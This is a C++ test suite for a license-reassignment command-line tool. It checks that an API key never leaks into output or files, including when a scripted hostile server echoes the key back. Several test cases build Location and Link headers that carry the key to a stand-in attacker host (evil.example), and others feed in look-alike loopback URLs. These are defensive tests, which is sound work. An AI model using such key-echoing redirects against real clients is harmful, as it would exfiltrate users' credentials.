// Secrets: every subcommand, on its success and failure paths, run with a marker API key; the
// marker never appears in stdout, stderr, the report, summary, journal, metrics or any other
// file the run wrote. Credentials quoted in URLs are redacted too. A scripted hostile API echoes
// the Authorization header back in every place an answer can carry text (error bodies, an HTML
// page, a 200's fields, Location, Link, Retry-After, Content-Type); the same scripted API gives
// answers about something else (another license, another batch, no deviceSerial, an HTML 200),
// which never count as applied.
#include "relicense/sim/server.hpp"

#include "fault_support.hpp"
#include "test_server.hpp"

#include <gtest/gtest.h>

#include <atomic>
#include <functional>
#include <mutex>
#include <string>

namespace relicense::fault_test {
namespace {

constexpr const char* marker = "SECRET-MARKER-abc123";

/// Fails the test if the marker (or its most obvious encodings) is in `text`.
void expect_clean(const std::string& text, const std::string& where) {
  for (const std::string& m :
       {std::string(marker), std::string("SECRET-MARKER"),
        std::string("U0VDUkVULU1BUktFUi1hYmMxMjM")}) {  // base64 of the marker
    EXPECT_EQ(text.find(m), std::string::npos) << "'" << m << "' leaked into " << where << ":\n"
                                               << text.substr(0, 3000);
  }
}

/// Scans a run's stdout, stderr and every file under `dir` (report, summary, journal, metrics,
/// rollback CSV, progress...).
void expect_clean(const child_result& r, const std::filesystem::path& dir,
                  const std::string& what) {
  expect_clean(r.out, what + " stdout");
  expect_clean(r.err, what + " stderr");
  for (const auto& e : std::filesystem::recursive_directory_iterator(dir)) {
    if (e.is_regular_file())
      expect_clean(temp_dir::read(e.path()), what + " file " + e.path().filename().string());
  }
}

class Secrets : public ::testing::Test {
protected:
  void SetUp() override {
    sim::sim_config cfg;
    cfg.orgs = 2;
    cfg.licenses_per_org = 30;
    cfg.rate = 0;
    cfg.seed = 515;
    cfg.api_key = marker;  // the twin accepts exactly the marker
    twin_ = std::make_unique<sim::server>(cfg);
    twin_->start();
    csv_ = dir_.write("in.csv", moving_csv(*twin_, 30, wanted_));
    const auto org = twin_->orgs()[0];
    // A second CSV with one row the API refuses (a license the org does not have).
    bad_csv_ = dir_.write("bad.csv", "organizationId,licenseId,deviceSerial\n" + org.id + "," +
                                         org.licenses[0].id + "," + org.devices[0] + "\n" + org.id +
                                         ",NO-SUCH-LICENSE," + org.devices[0] + "\n");
  }

  /// apply/verify arguments with every artefact in a fresh sub-directory `tag` of the temp dir.
  std::vector<std::string> apply_args(const std::string& tag, const std::filesystem::path& csv,
                                      const std::string& base_url = {}) {
    const auto d = dir_.path() / tag;
    std::filesystem::create_directories(d);
    return {"apply",      csv.string(),
            "--base-url", base_url.empty() ? twin_->base_url() : base_url,
            "--rate",     "0",
            "--ip-rate",  "0",
            "--report",   (d / "report.csv").string(),
            "--summary",  (d / "summary.json").string(),
            "--metrics",  (d / "metrics.prom").string(),
            "--journal",  (d / "run.journal").string(),
            "--progress", "on"};
  }

  temp_dir dir_;
  std::unique_ptr<sim::server> twin_;
  wanted_map wanted_;
  std::filesystem::path csv_;
  std::filesystem::path bad_csv_;
};

// plan, apply (success, failures, dry-run, skip-unchanged, batch mode, resume), verify and
// rollback with the marker key: none of them writes it anywhere.
TEST_F(Secrets, NoSubcommandLeaksTheKey) {
  auto r = run({"plan", csv_.string()}, marker, dir_.path());
  EXPECT_EQ(r.exit_code, 0) << r.err;
  expect_clean(r, dir_.path(), "plan");

  auto a = apply_args("ok", csv_);
  a.push_back("--skip-unchanged");  // learns each previous serial, so rollback has rows to write
  r = run(a, marker, dir_.path());
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(state_mismatches(*twin_, wanted_), 0u);
  expect_clean(r, dir_.path(), "apply");

  a.push_back("--resume");
  r = run(a, marker, dir_.path());
  EXPECT_EQ(r.exit_code, 0) << r.err;
  expect_clean(r, dir_.path(), "apply --resume");

  r = run(apply_args("fail", bad_csv_), marker, dir_.path());
  EXPECT_EQ(r.exit_code, 1) << r.err;
  expect_clean(r, dir_.path(), "apply with a failing row");

  a = apply_args("dry", csv_);
  a.push_back("--dry-run");
  r = run(a, marker, dir_.path());
  EXPECT_EQ(r.exit_code, 0) << r.err;
  expect_clean(r, dir_.path(), "apply --dry-run");

  a = apply_args("skip", csv_);
  a.push_back("--skip-unchanged");
  r = run(a, marker, dir_.path());
  EXPECT_EQ(r.exit_code, 0) << r.err;
  expect_clean(r, dir_.path(), "apply --skip-unchanged");

  twin_->reset();
  a = apply_args("batch", csv_);
  a.insert(a.end(), {"--mode", "batch"});
  r = run(a, marker, dir_.path());
  EXPECT_EQ(r.exit_code, 0) << r.err;
  expect_clean(r, dir_.path(), "apply --mode batch");

  r = run(
      {"verify", csv_.string(), "--base-url", twin_->base_url(), "--rate", "0", "--ip-rate", "0"},
      marker, dir_.path());
  EXPECT_EQ(r.exit_code, 0) << r.err;
  expect_clean(r, dir_.path(), "verify");

  twin_->reset();
  r = run(
      {"verify", csv_.string(), "--base-url", twin_->base_url(), "--rate", "0", "--ip-rate", "0"},
      marker, dir_.path());
  EXPECT_EQ(r.exit_code, 1) << "verify of an unapplied CSV: " << r.err;
  expect_clean(r, dir_.path(), "verify with mismatches");

  r = run({"rollback", (dir_.path() / "ok" / "report.csv").string(), "--output",
           (dir_.path() / "undo.csv").string()},
          marker, dir_.path());
  EXPECT_EQ(r.exit_code, 0) << r.err;
  expect_clean(r, dir_.path(), "rollback");
}

// Transient faults (5xx, drops, timeouts, 429s) put error texts in the report and the retries in
// the summary and metrics: none of them carries the key. Each fault hits every request, so every
// row fails after its two attempts and the exit code is exactly 1.
TEST_F(Secrets, FaultPathsDoNotLeakTheKey) {
  struct fault {
    const char* name;
    double p5xx, drop, slow, p429;
  };
  for (const fault f : {fault{"5xx", 1, 0, 0, 0}, fault{"drop", 0, 1, 0, 0},
                        fault{"slow", 0, 0, 1, 0}, fault{"429", 0, 0, 0, 1}}) {
    twin_->set_faults(f.p5xx, f.drop, f.slow, f.p429);
    auto a = apply_args(std::string("faults-") + f.name, csv_);
    a.insert(a.end(), {"--timeout", "0.5", "--max-attempts", "2"});
    const auto r = run(a, marker, dir_.path());
    EXPECT_EQ(r.exit_code, 1) << f.name << ": " << r.err;
    expect_clean(r, dir_.path(), std::string("apply under faults: ") + f.name);
  }
  twin_->set_faults(0, 0, 0, 0);
}

// A key the API rejects (401): the run aborts (exit 3) and the rejected key is nowhere.
TEST_F(Secrets, RejectedKeyIsNotPrinted) {
  sim::sim_config cfg;
  cfg.orgs = 2;
  cfg.licenses_per_org = 30;
  cfg.rate = 0;
  cfg.seed = 515;  // same orgs, another key
  sim::server other(cfg);
  other.start();
  auto r = run(apply_args("401", csv_, other.base_url()), marker, dir_.path());
  EXPECT_EQ(r.exit_code, 3) << r.err;
  EXPECT_EQ(other.stats().puts_applied, 0u);
  expect_clean(r, dir_.path(), "apply with a rejected key");

  r = run(
      {"verify", csv_.string(), "--base-url", other.base_url(), "--rate", "0", "--ip-rate", "0"},
      marker, dir_.path());
  EXPECT_EQ(r.exit_code, 3) << r.err;
  expect_clean(r, dir_.path(), "verify with a rejected key");
}

// Credentials written into --base-url (user-info, a key-like query parameter) are redacted from
// the error message, and the URL is refused (exit 2) before anything is sent.
TEST_F(Secrets, CredentialsInUrlsAreRedacted) {
  const std::string port = std::to_string(twin_->port());
  for (const std::string& url :
       {"http://user:" + std::string(marker) + "@api.meraki.com/api/v1",
        "https://user:" + std::string(marker) + "@127.0.0.1:1/api/v1",
        "https://127.0.0.1:1/api/v1?apiKey=" + std::string(marker),
        "http://user:" + std::string(marker) + "@127.0.0.1:" + port + "/api/v1",
        "ftp://" + std::string(marker) + "@127.0.0.1/"}) {
    const auto r = run(apply_args("url", csv_, url), "another-key-0000", dir_.path());
    EXPECT_EQ(r.exit_code, 2) << url << ": " << r.err;  // refused before anything is sent
    expect_clean(r, dir_.path(), "apply --base-url " + url);
  }
}

// `relicense demo` (which runs its own twin) writes no key given in the environment.
TEST_F(Secrets, DemoDoesNotLeakTheKey) {
  const auto r = run({"demo"}, marker, dir_.path(), std::chrono::seconds(180));
  EXPECT_EQ(r.exit_code, 0) << r.err;
  expect_clean(r, dir_.path(), "demo");
  // "relicense demo: files in DIR (CSV, ...)": scan DIR as well, then remove it.
  if (const auto at = r.err.find("files in "); at != std::string::npos) {
    const auto start = at + 9;
    const std::filesystem::path out =
        r.err.substr(start, r.err.find_first_of(" \n", start) - start);
    expect_clean(r, out, "demo");
    std::error_code ec;
    std::filesystem::remove_all(out, ec);
  } else {
    ADD_FAILURE() << "demo did not say where its files are: " << r.err;
  }
}

// ---------------------------------------------------------------------------------------------
// A scripted hostile API

using io::test::received_request;

/// What the scripted API answers to one request.
struct reply {
  reply(unsigned s = 200, std::string b = {}, std::string type = "application/json",
        std::string h = {})
      : status(s), body(std::move(b)), content_type(std::move(type)), headers(std::move(h)) {}
  unsigned status;
  std::string body;
  std::string content_type;
  std::string headers;  ///< extra header lines, each ending in \r\n
  std::string raw;      ///< when set: these bytes instead of a response, then the connection ends
};

/// The scripted API: one connection at a time (runs use --concurrency 1), every request counted
/// by method and answered by the test's handler, which sees the request (and so the key).
class hostile_api {
public:
  using handler = std::function<reply(const received_request&)>;

  explicit hostile_api(handler h)
      : handler_(std::move(h)), server_([this](io::test::server_session& s) { serve(s); }) {}

  std::string base_url() const {
    return "http://127.0.0.1:" + std::to_string(server_.port()) + "/api/v1";
  }
  int count(const std::string& method) const {
    std::lock_guard lock(mutex_);
    auto it = counts_.find(method);
    return it == counts_.end() ? 0 : it->second;
  }

private:
  void serve(io::test::server_session& s) {
    while (auto req = s.read_request()) {
      {
        std::lock_guard lock(mutex_);
        ++counts_[req->method];
      }
      const reply r = handler_(*req);
      if (!r.raw.empty()) {
        s.write(r.raw);
        return;
      }
      if (!s.respond(r.status, r.body, r.content_type, r.headers)) return;
    }
  }

  handler handler_;
  mutable std::mutex mutex_;
  std::map<std::string, int> counts_;
  io::test::script_server server_;  // last: its thread may call serve() as soon as it exists
};

constexpr const char* org_id = "549236";
constexpr const char* lic_a = "1000001";
constexpr const char* lic_b = "1000002";
constexpr const char* serial_a = "Q2AA-AAAA-0001";

/// The Authorization header a request carried ("Bearer <marker>"): what a hostile server echoes.
/// The pre-flight's GET /organizations/{id}.
bool is_org_check(const received_request& r) {
  const auto at = r.target.find("/organizations/");
  return r.method == "GET" && at != std::string::npos &&
         r.target.find('/', at + 15) == std::string::npos;
}

std::string auth_of(const received_request& r) {
  auto it = r.headers.find("authorization");
  return it == r.headers.end() ? std::string("(none)") : it->second;
}

std::string license_json(const std::string& id, const std::string& serial_json,
                         const std::string& state) {
  return R"({"id":")" + id + R"(","deviceSerial":)" + serial_json + R"(,"state":")" + state +
         R"("})";
}

std::string errors_json(const std::string& text) { return R"({"errors":[")" + text + R"("]})"; }

/// The license id at the end of a PUT's target.
std::string license_of(const received_request& r) {
  return r.target.substr(r.target.rfind('/') + 1);
}

class HostileApi : public ::testing::Test {
protected:
  /// One row assigning lic_a to serial_a, one unassigning lic_b.
  std::filesystem::path two_rows() {
    return dir_.write("two.csv", std::string("organizationId,licenseId,deviceSerial\n") + org_id +
                                     "," + lic_a + "," + serial_a + "\n" + org_id + "," + lic_b +
                                     ",\n");
  }

  /// Runs `args` (after the subcommand and CSV) against `api` with the marker key and every
  /// artefact in a fresh directory; checks the exit code and that the marker is nowhere.
  child_result run_case(const std::string& tag, const hostile_api& api,
                        std::vector<std::string> args, int expected_exit,
                        const std::string& report_ext = "csv") {
    const auto d = dir_.path() / tag;
    std::filesystem::create_directories(d);
    std::vector<std::string> full{args.front()};
    args.erase(args.begin());
    full.push_back(csv_.string());
    full.insert(full.end(), {"--base-url", api.base_url(), "--rate", "0", "--ip-rate", "0",
                             "--max-attempts", "2", "--timeout", "5"});
    if (full.front() == "apply") {
      full.insert(
          full.end(),
          {"--concurrency", "1", "--report", (d / ("report." + report_ext)).string(), "--summary",
           (d / "summary.json").string(), "--metrics", (d / "metrics.prom").string(), "--journal",
           (d / "run.journal").string(), "--progress", "on"});
    }
    full.insert(full.end(), args.begin(), args.end());
    auto r = run(full, marker, d);
    EXPECT_EQ(r.exit_code, expected_exit) << tag << ": " << r.err;
    expect_clean(r, d, tag);
    last_dir_ = d;
    return r;
  }

  /// The report of the last apply case (csv or jsonl).
  std::string report(const std::string& ext = "csv") const {
    return temp_dir::read(last_dir_ / ("report." + ext));
  }

  temp_dir dir_;
  std::filesystem::path csv_ = two_rows();
  std::filesystem::path last_dir_;
};

/// Inventory page of the org: both licenses, the key in every text field.
reply echoing_page(const received_request& r) {
  const std::string key = auth_of(r);
  return {200, "[" + license_json(lic_a, "\"" + key + "\"", key) + "," +
                   license_json(lic_b, "null", key) + "]"};
}

// The key echoed in a 400, a 401, a 503 (with Retry-After), a 502 HTML page, a 200's
// deviceSerial and state, a Location and a Content-Type, in put mode with both report formats:
// it reaches no output, and each run ends with its exact exit code.
TEST_F(HostileApi, EchoedKeyNeverLeavesTheTransportInPutMode) {
  struct echo_case {
    const char* name;
    std::function<reply(const received_request&)> answer;
    int exit_code;
    bool quoted;  ///< the report quotes the echoed text (redacted)
  };
  const std::vector<echo_case> cases = {
      {"400",
       [](const received_request& r) {
         return reply{400, errors_json("bad header " + auth_of(r))};
       },
       1, true},
      {"401",
       [](const received_request& r) {
         // The pre-flight passes, so the 401 answers a license call and reaches the report.
         if (is_org_check(r)) return reply{200, R"({"id":"1","licensing":{"model":"per-device"}})"};
         return reply{401, errors_json("key " + auth_of(r) + " rejected")};
       },
       3, true},
      {"503",
       [](const received_request& r) {
         return reply{503, errors_json("busy: " + auth_of(r)), "application/json",
                      "Retry-After: " + auth_of(r) + "\r\n"};
       },
       1, true},
      {"502-html",
       [](const received_request& r) {
         return reply{
             502,
             "<html><body>Bad gateway<pre>Authorization: " + auth_of(r) + "</pre></body></html>",
             "text/html"};
       },
       1, false},
      {"200-fields",
       [](const received_request& r) {
         // deviceSerial is the key: the row fails (another serial), quoting the redacted value.
         return reply{200, license_json(license_of(r), "\"" + auth_of(r) + "\"", auth_of(r))};
       },
       1, true},
      {"200-state",
       [](const received_request& r) {
         // The right answer with the key as its state: applied, and the state is redacted.
         const std::string serial =
             license_of(r) == lic_a ? "\"" + std::string(serial_a) + "\"" : "null";
         return reply{200, license_json(license_of(r), serial, auth_of(r))};
       },
       0, true},
      {"location",
       [](const received_request& r) {
         return reply{302, "", "application/json",
                      "Location: https://evil.example/" + auth_of(r).substr(7) +
                          "?k=" + auth_of(r).substr(7) + "\r\n"};
       },
       1, false},
      {"content-type",
       [](const received_request& r) {
         return reply{200, "<p>" + auth_of(r) + "</p>", "text/" + auth_of(r).substr(7)};
       },
       1, true},
  };
  for (const auto& c : cases) {
    for (const std::string ext : {"csv", "jsonl"}) {
      hostile_api api(c.answer);
      run_case(std::string("put-") + c.name + "-" + ext, api, {"apply", "--no-inventory"},
               c.exit_code, ext);
      if (c.quoted) {
        EXPECT_NE(report(ext).find("[REDACTED]"), std::string::npos)
            << c.name << ": the echoed key should show as redacted in the report:\n"
            << report(ext);
      }
    }
  }
}

// The same echoes in batch mode: a refused POST (400), a 401, a 503, an HTML 502, and a batch
// whose status errors quote the key; exact exit codes, the key nowhere.
TEST_F(HostileApi, EchoedKeyNeverLeavesTheTransportInBatchMode) {
  struct echo_case {
    const char* name;
    std::function<reply(const received_request&)> answer;
    int exit_code;
  };
  const std::vector<echo_case> cases = {
      {"400",
       [](const received_request& r) {
         return reply{400, errors_json("bad batch " + auth_of(r))};
       },
       1},
      {"401",
       [](const received_request& r) {
         // The pre-flight passes, so the 401 answers a license call and reaches the report.
         if (is_org_check(r)) return reply{200, R"({"id":"1","licensing":{"model":"per-device"}})"};
         return reply{401, errors_json("key " + auth_of(r) + " rejected")};
       },
       3},
      {"503",
       [](const received_request& r) {
         return reply{503, errors_json("busy: " + auth_of(r))};
       },
       1},
      {"502-html",
       [](const received_request& r) {
         return reply{502, "<html>" + auth_of(r) + "</html>", "text/html"};
       },
       1},
      {"failed-batch",
       [](const received_request& r) {
         return reply{
             201,
             R"({"id":"B1","confirmed":true,"status":{"completed":false,"failed":true,"errors":[")" +
                 auth_of(r) + R"("]}})"};
       },
       1},
      {"location",
       [](const received_request& r) {
         return reply{307, "", "application/json",
                      "Location: https://evil.example/" + auth_of(r) + "\r\n"};
       },
       1},
      {"200-id",
       [](const received_request& r) {
         // The batch's id is the key: it goes to the journal and the report, redacted.
         return reply{
             201,
             R"({"id":")" + auth_of(r) +
                 R"(","confirmed":true,"status":{"completed":true,"failed":false,"errors":[]}})"};
       },
       0},
  };
  for (const auto& c : cases) {
    hostile_api api(c.answer);
    run_case(std::string("batch-") + c.name, api, {"apply", "--mode", "batch", "--no-inventory"},
             c.exit_code);
    EXPECT_GE(api.count("POST"), 1) << c.name;
  }
}

// verify and the inventory read of apply --skip-unchanged, with the key in a page's fields, in an
// error body and in a Link header: the key is nowhere.
TEST_F(HostileApi, EchoedKeyNeverLeavesTheInventoryRead) {
  {
    // The page says lic_a holds the key (a mismatch, quoted redacted), lic_b is unassigned.
    hostile_api api(echoing_page);
    const auto r = run_case("verify-page", api, {"verify"}, 1);
    EXPECT_NE(r.out.find("[REDACTED]"), std::string::npos) << r.out;
  }
  {
    hostile_api api([](const received_request& r) {
      return reply{400, errors_json("no: " + auth_of(r))};
    });
    run_case("verify-400", api, {"verify"}, 1);
  }
  {
    hostile_api api([](const received_request& r) {
      return reply{401, errors_json("no: " + auth_of(r))};
    });
    run_case("verify-401", api, {"verify"}, 3);
  }
  {
    hostile_api api([](const received_request& r) {
      return reply{503, errors_json("busy: " + auth_of(r)), "application/json",
                   "Retry-After: " + auth_of(r) + "\r\n"};
    });
    run_case("verify-503", api, {"verify"}, 1);
  }
  {
    hostile_api api([](const received_request& r) {
      return reply{302, "", "application/json",
                   "Location: http://127.0.0.2:1/" + auth_of(r).substr(7) + "\r\n"};
    });
    run_case("verify-location", api, {"verify"}, 1);
  }
  {
    hostile_api api([](const received_request& r) {
      return reply{502, "<html>" + auth_of(r) + "</html>", "text/html"};
    });
    run_case("verify-502-html", api, {"verify"}, 1);
  }
  {
    hostile_api api([](const received_request& r) {
      return reply{401, errors_json("no: " + auth_of(r))};
    });
    run_case("skip-unchanged-401", api, {"apply", "--skip-unchanged"}, 3);
    EXPECT_EQ(api.count("PUT"), 0);
  }
  {
    hostile_api api([](const received_request& r) {
      reply p = echoing_page(r);
      p.headers = "Link: <https://evil.example/" + auth_of(r).substr(7) + ">; rel=next\r\n";
      return p;
    });
    run_case("verify-link", api, {"verify"}, 1);
  }
  {
    // Inventory with the key as lic_a's serial and both states; the PUTs then answer correctly.
    hostile_api api([](const received_request& r) {
      if (r.method == "GET") return echoing_page(r);
      const std::string serial =
          license_of(r) == lic_a ? "\"" + std::string(serial_a) + "\"" : "null";
      return reply{200, license_json(license_of(r), serial, "active")};
    });
    run_case("skip-unchanged", api, {"apply", "--skip-unchanged"}, 0);
    EXPECT_EQ(api.count("PUT"), 1);  // lic_b is already unassigned
    EXPECT_NE(report().find("[REDACTED]"), std::string::npos)
        << report();  // lic_a's previous serial
  }
}

// ---------------------------------------------------------------------------------------------
// Answers about something else

/// The right answer to a PUT: the license asked for, on the serial asked for.
reply right_answer(const received_request& r) {
  const std::string serial = license_of(r) == lic_a ? "\"" + std::string(serial_a) + "\"" : "null";
  return {200, license_json(license_of(r), serial, "active")};
}

/// How often `needle` occurs in `hay`.
std::size_t occurrences(const std::string& hay, const std::string& needle) {
  std::size_t n = 0;
  for (auto at = hay.find(needle); at != std::string::npos;
       at = hay.find(needle, at + needle.size()))
    ++n;
  return n;
}

// A 200 about another license fails the row, naming both licenses; the other row is applied.
TEST_F(HostileApi, AnswerAboutAnotherLicenseFails) {
  hostile_api api([](const received_request& r) {
    if (license_of(r) == lic_a)
      return reply{200, license_json("1999999", "\"" + std::string(serial_a) + "\"", "active")};
    return right_answer(r);
  });
  run_case("other-license", api, {"apply"}, 1);
  const std::string rep = report();
  EXPECT_NE(rep.find("answered about license 1999999 instead of 1000001"), std::string::npos)
      << rep;
  EXPECT_EQ(occurrences(rep, ",applied,"), 1u) << rep;
}

// An unassign answered without a deviceSerial field fails the row, saying what was asked.
TEST_F(HostileApi, UnassignAnsweredWithoutDeviceSerialFails) {
  hostile_api api([](const received_request& r) {
    if (license_of(r) == lic_b)
      return reply{200, R"({"id":")" + std::string(lic_b) + R"(","state":"unused"})"};
    return right_answer(r);
  });
  run_case("no-device-serial", api, {"apply"}, 1);
  const std::string rep = report();
  EXPECT_NE(rep.find("license 1000002 has no deviceSerial (asked for null)"), std::string::npos)
      << rep;
  EXPECT_EQ(occurrences(rep, ",applied,"), 1u) << rep;
}

// An inventory page whose license does not say deviceSerial cannot be compared: verify does not
// count the row in place.
TEST_F(HostileApi, InventoryWithoutDeviceSerialIsNotVerified) {
  hostile_api api([](const received_request&) {
    return reply{200, R"([{"id":"1000001","deviceSerial":"Q2AA-AAAA-0001"},{"id":"1000002"}])"};
  });
  const auto r = run_case("verify-no-device-serial", api, {"verify"}, 1);
  EXPECT_NE(r.err.find("has no \"deviceSerial\""), std::string::npos) << r.err;
}

// A batch poll answered about another batch does not complete this one: its rows end failed
// (status unknown, the journal keeps the batch), never applied.
TEST_F(HostileApi, BatchPollAboutAnotherBatchIsNotCompletion) {
  hostile_api api([](const received_request& r) {
    if (r.method == "POST")
      return reply{
          201,
          R"({"id":"B1","confirmed":true,"status":{"completed":false,"failed":false,"errors":[]}})"};
    return reply{
        200,
        R"({"id":"B2","confirmed":true,"status":{"completed":true,"failed":false,"errors":[]}})"};
  });
  run_case("batch-other-batch", api, {"apply", "--mode", "batch"}, 1);
  const std::string rep = report();
  EXPECT_NE(rep.find("answered about action batch B2 instead of B1"), std::string::npos) << rep;
  EXPECT_EQ(occurrences(rep, ",applied,"), 0u) << rep;
}

// An HTML page with a 200 is not the API's answer: a PUT is retried (it is idempotent) and, when
// every attempt gets the page, fails saying what came instead of JSON.
TEST_F(HostileApi, HtmlOkToPutIsRetriedThenFails) {
  hostile_api api([](const received_request&) {
    return reply{200, "<html>maintenance</html>", "text/html"};
  });
  run_case("put-html-200", api, {"apply"}, 1);
  EXPECT_EQ(api.count("PUT"), 4);  // two rows, two attempts each
  const std::string rep = report();
  EXPECT_EQ(occurrences(rep, "expected JSON, got text/html (HTTP 200)"), 2u) << rep;
  EXPECT_EQ(occurrences(rep, ",applied,"), 0u) << rep;
}

// The HTML 200 once, then the API's answer: the retry applies the row.
TEST_F(HostileApi, HtmlOkOnceThenJsonApplies) {
  std::atomic<int> seen{0};
  hostile_api api([&seen](const received_request& r) {
    if (r.method == "PUT" && seen++ == 0)
      return reply{200, "<html>maintenance</html>", "text/html; charset=utf-8"};
    return right_answer(r);
  });
  run_case("put-html-once", api, {"apply", "--no-inventory"}, 0);
  EXPECT_EQ(api.count("PUT"), 3);
}

// An HTML 200 to the inventory read: verify cannot verify (exit 1, saying why); apply
// --skip-unchanged sends the rows as changes.
TEST_F(HostileApi, HtmlOkToInventoryIsNotAnInventory) {
  {
    hostile_api api([](const received_request&) {
      return reply{200, "<html>login</html>", "text/html"};
    });
    const auto r = run_case("verify-html-200", api, {"verify"}, 1);
    EXPECT_NE(r.err.find("expected JSON, got text/html"), std::string::npos) << r.err;
  }
  {
    hostile_api api([](const received_request& r) {
      if (r.method == "GET") return reply{200, "<html>login</html>", "text/html"};
      return right_answer(r);
    });
    run_case("skip-unchanged-html-200", api, {"apply", "--skip-unchanged"}, 0);
    EXPECT_EQ(api.count("GET"), 4);  // per organization: its pre-flight check and its inventory
    EXPECT_EQ(api.count("PUT"), 2);
  }
}

// An HTML 200 to a batch POST: retried, then the rows fail saying so.
TEST_F(HostileApi, HtmlOkToBatchPostFails) {
  hostile_api api([](const received_request&) {
    return reply{200, "<html>maintenance</html>", "text/html"};
  });
  run_case("batch-html-200", api, {"apply", "--mode", "batch"}, 1);
  EXPECT_EQ(api.count("POST"), 2);
  const std::string rep = report();
  EXPECT_EQ(occurrences(rep, "expected JSON, got text/html (HTTP 200)"), 2u) << rep;
}

// A malformed response fails the row with a message that says "malformed HTTP response" once.
TEST_F(HostileApi, MalformedResponseSaysSoOnce) {
  hostile_api api([](const received_request&) {
    reply r;
    r.raw = "HTTP/1.1 2x0 OK\r\nContent-Length: 0\r\n\r\n";
    return r;
  });
  run_case("malformed", api, {"apply"}, 1);
  const std::string rep = report();
  EXPECT_EQ(occurrences(rep, "malformed HTTP response"), 2u) << rep;  // once per row
  EXPECT_EQ(occurrences(rep, "malformed HTTP response: malformed"), 0u) << rep;
}

// A plain-http base URL whose host only starts like a loopback address is refused before
// anything is sent (exit 2), by apply and verify alike, whether the host is a look-alike name or
// one Boost.URL would cut short to the loopback address it starts with.
TEST_F(HostileApi, LoopbackLookAlikeBaseUrlIsRefused) {
  for (const std::string url :
       {"http://127.0.0.1.evil.com/api/v1", "http://localhost.evil.com/api/v1",
        "http://127.0.0.1.nip.io:8080/api/v1", "http://[::2]/api/v1"}) {
    for (const std::string cmd : {"apply", "verify"}) {
      const auto r = run({cmd, csv_.string(), "--base-url", url}, marker, dir_.path());
      EXPECT_EQ(r.exit_code, 2) << cmd << " " << url << ": " << r.err;
      EXPECT_NE(r.err.find("--base-url"), std::string::npos) << r.err;
    }
  }
}

}  // namespace
}  // namespace relicense::fault_test
